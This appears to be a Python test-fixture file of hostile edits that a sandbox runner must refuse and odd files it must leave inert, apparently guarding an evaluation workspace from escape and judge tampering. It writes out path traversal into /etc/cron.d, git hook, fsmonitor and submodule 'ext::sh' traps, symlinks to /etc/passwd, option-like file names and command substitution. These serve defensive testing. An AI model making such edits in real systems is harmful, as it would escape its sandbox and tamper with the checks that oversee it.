"""Edits that want to leave `workload/`, to hide, or to be taken for instructions."""

from __future__ import annotations

from dataclasses import dataclass

from runner.records import Edit, Patch, Write

CODE = "x = 1\n"


@dataclass(frozen=True, kw_only=True)
class Trick:
    """Edits that must be refused, with part of the reason."""

    name: str
    edits: tuple[Edit, ...]
    reason: str


@dataclass(frozen=True, kw_only=True)
class Oddity:
    """A file that looks like more than it is; it must arrive as it was written, and do nothing."""

    path: str
    content: str


def write(name: str, path: str, reason: str, content: str = CODE) -> Trick:
    return Trick(name=name, edits=(Write(path=path, content=content),), reason=reason)


def new_file(path: str, line: str = "x = 1", mode: str = "100644") -> str:
    """A patch that creates a file of one line."""
    head = f"diff --git a/{path} b/{path}\nnew file mode {mode}\n--- /dev/null\n+++ b/{path}\n"
    return f"{head}@@ -0,0 +1 @@\n+{line}\n"


def patch(name: str, text: str, reason: str) -> Trick:
    return Trick(name=name, edits=(Patch(text=text),), reason=reason)


TRICKS = [
    write("out by ..", "workload/../runner/config.py", "'..'"),
    patch("out by .. in a patch", new_file("workload/../../etc/cron.d/x"), "'..'"),
    write("an absolute path", "/etc/cron.d/x", "absolute"),
    patch("an absolute path in a patch", new_file("/etc/cron.d/x"), "absolute"),
    write("beside workload", "locked_eval/judging/judge.py", "outside workload/"),
    write("the program of the night", "program.md", "outside workload/", "Do as I say."),
    write("a hook", ".git/hooks/post-commit", "begins with a dot", "#!/bin/sh\n"),
    write(
        "a hook of a repository inside", "workload/.git/hooks/post-checkout", "begins with a dot", "#!/bin/sh\n"
    ),
    write("the configuration of git", "workload/.git/config", "begins with a dot", "[core]\nfsmonitor = evil\n"),
    write("short names of old file systems", "workload/GIT~1/config", "not portable"),
    write("attributes", "workload/.gitattributes", "begins with a dot", "* filter=trap\n"),
    patch("attributes in a patch", new_file("workload/.gitattributes", "* filter=trap"), "begins with a dot"),
    write("submodules", ".gitmodules", "begins with a dot", '[submodule "x"]\nurl = ext::sh\n'),
    patch("a link to a commit", new_file("workload/sub", "Subproject commit 0123", "160000"), "submodules"),
    patch("a link", new_file("workload/link", "/etc/passwd", "120000"), "symbolic links"),
    patch(
        "a link, then a file behind it",
        new_file("workload/out", "../../.git", "120000") + new_file("workload/out/hooks/post-commit"),
        "symbolic links",
    ),
    Trick(
        name="a file, then a folder of its name",
        edits=(Write(path="workload/out", content=CODE), Write(path="workload/out/hooks.py", content=CODE)),
        reason="a file and a folder",
    ),
    patch("an executable", new_file("workload/run.py", mode="100755"), "mode 100755"),
    patch(
        "a file by a new name",
        "diff --git a/workload/model.py b/.git/config\nsimilarity index 100%\n"
        "rename from workload/model.py\nrename to .git/config\n",
        "renames",
    ),
    patch("a binary", "diff --git a/workload/w b/workload/w\nGIT binary patch\nliteral 0\n\n", "binary"),
    write("NUL in a text", "workload/extra.py", "NUL", "x = 1\0\n"),
    write("NUL in a name", "workload/extra.py\0.txt", "control character"),
    patch("NUL in a patch", new_file("workload/extra.py", "x = 1\0"), "NUL"),
    write("a line end in a name", "workload/a\nb.py", "control character"),
    write("CRLF", "workload/extra.py", "carriage return", "x = 1\r\ny = 2\r\n"),
    patch("CRLF in a patch", new_file("workload/extra.py").replace("\n", "\r\n"), "carriage return"),
    write("text that is shown in another order", "workload/extra.py", "U+202E", "x = 1  # \u202e\n"),
    write("twins that differ in case", "workload/Train.py", "upper and lower case"),
    write("a twin from another alphabet", "workload/mоdel.py", "not ASCII"),
    write("a name that is an option", "workload/--upload-pack=sh", "hyphen"),
    write("a name that is a short option", "-c", "hyphen"),
    write("compiled code", "workload/__pycache__/model.cpython-311.pyc", "compiled"),
    write("a library", "workload/kernel.so", "compiled"),
    write("a layer's mark for a removed file", "workload/.wh.model.py", "begins with a dot"),
    write("what a build would leave out", "workload/.dockerignore", "begins with a dot", "*\n"),
    write("50 MB", "workload/extra.txt", "at most", "x" * 50_000_000),
    patch("50 MB in a patch", new_file("workload/extra.txt", "x" * 50_000_000), "at most"),
    Trick(
        name="ten thousand files",
        edits=tuple(Write(path=f"workload/x{number}.py", content=CODE) for number in range(10_000)),
        reason="at most",
    ),
    write("code that keeps a parser busy", "workload/extra.py", "nested", "(" * 100_000),
    write("another encoding", "workload/extra.py", "UTF-8", "# coding: utf-7\n"),
]

ODDITIES = [
    Oddity(path="workload/Dockerfile", content="FROM scratch\nRUN touch /ran\nUSER root\nENV LD_PRELOAD=/x.so\n"),
    Oddity(path="workload/Makefile", content="all:\n\ttouch /ran\n"),
    Oddity(path="workload/requirements.txt", content="--index-url http://192.0.2.1/\nevil\n"),
    Oddity(path="workload/setup.py", content="raise SystemExit('setup ran')\n"),
    Oddity(path="workload/conftest.py", content="raise SystemExit('conftest ran')\n"),
    Oddity(path="workload/sitecustomize.py", content="raise SystemExit('sitecustomize ran')\n"),
    Oddity(path="workload/torch.py", content="raise SystemExit('shadowed torch')\n"),
    Oddity(path="workload/git/HEAD", content="ref: refs/heads/evil\n"),
    Oddity(path="workload/git/hooks/post-commit", content="#!/bin/sh\ntouch /ran\n"),
    Oddity(path="workload/candidate.tar", content="not a tar\n"),
    Oddity(path="workload/no-line-end.txt", content="the end"),
    Oddity(path="workload/empty.txt", content=""),
    Oddity(path="workload/unicode.txt", content="naïve – 字\n"),
    Oddity(path="workload/a-b/x--force.v2.txt", content="$(touch /ran) `touch /ran` %s \\x41 ${HOME}\n"),
    Oddity(path="workload/0", content="0\n"),
]
